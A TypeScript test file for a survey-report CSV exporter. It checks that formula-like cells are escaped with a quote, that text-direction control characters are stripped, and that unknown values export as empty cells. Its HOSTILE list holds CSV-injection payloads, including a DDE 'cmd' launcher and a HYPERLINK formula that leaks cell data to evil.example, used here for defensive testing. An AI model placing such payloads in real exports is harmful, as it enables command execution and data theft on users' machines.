import { parse } from "csv-parse/sync";
import { csv, figuresCsv } from "../../src/printed/csv/report-csv";
import { absentEstimate } from "../../src/reports/domain/absent-estimate";
import { npsEstimate } from "../../src/reports/domain/nps-estimate";
import { currentThresholds } from "../../src/reports/domain/thresholds";
import { sourceFiles } from "../support/source-files";

const ROW = { agency: "A", service: "S", level: "STEP", stage: "M", step: "X", figure: "nps.net", turn: null, instrument: null, version: null, moment: null, mode: null } as const;

const FRESH = { server: "READER", asOf: new Date("2026-03-01T05:30:00Z"), lagSeconds: 2.5, readerPassedOver: null } as const;

test("S18: what a spreadsheet would run as a formula is text, a negative number is a number, and quotes survive", () => {
  const negative = npsEstimate([20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], currentThresholds(10));
  const steps = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", 'said "no", twice'];
  const csv = figuresCsv(steps.map((step) => ({ ...ROW, step, estimate: negative })), FRESH);
  const rows: Record<string, string>[] = parse(csv, { columns: true });
  expect(rows.map((row) => row["step"])).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", 'said "no", twice']);
  expect(rows[0]).toMatchObject({ value: "-100", low: "-100", n: "20", server: "READER", asOf: "2026-03-01T05:30:00.000Z", lagSeconds: "2.5" });
});

const HOSTILE = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', "-2+3+cmd|' /C calc'!A0"];
const TURNS = ["a\u202Eb", "\u202Da", "\u2066a\u2069", "\u202A\u202B\u202C\u2067\u2068"];

test("S18: no cell of hostile text begins a formula or turns a direction, and each is read back as one cell", () => {
  const rows: string[][] = parse(csv(["a", "b", "c"], [...HOSTILE, ...TURNS].map((text) => ["x", text, -1.5])));
  expect(rows).toHaveLength(HOSTILE.length + TURNS.length + 1);
  for (const [, cell = "", number] of rows.slice(1)) {
    expect(cell).not.toMatch(/^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/u);
    expect(cell).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/u);
    expect(number).toBe("-1.5");
  }
  expect(rows.slice(1, HOSTILE.length + 1).map(([, cell]) => cell)).toEqual(HOSTILE.map((text) => `'${text}`));
  expect(rows.at(-4)?.[1]).toBe("a\\u202Eb");
});

test("S18 control: written by hand, a formula stays one", () => {
  const rows: string[][] = parse(HOSTILE.map((text) => `x,"${text.replaceAll('"', '""')}",-1.5`).join("\r\n"));
  expect(rows.filter(([, cell]) => /^[=+\-@\t\r\0]/u.test(cell ?? "")).length).toBeGreaterThan(5);
});

test("S18: every CSV door writes by the one function", () => {
  expect(sourceFiles().filter(({ tree }) => tree.text.includes("csv-stringify")).map(({ path }) => path)).toEqual(["printed/csv/report-csv.ts"]);
});

test("an unknown value is an empty cell, never 0, and reasons say why", () => {
  const [row]: Record<string, string>[] = parse(figuresCsv([{ ...ROW, estimate: absentEstimate("NET_SCORE", "NPS_ADJ_WALD", "SMALL_CELL") }], FRESH), { columns: true });
  expect(row).toMatchObject({ value: "", low: "", high: "", n: "", effectiveN: "", suppressed: "true", reasons: "SMALL_CELL" });
});
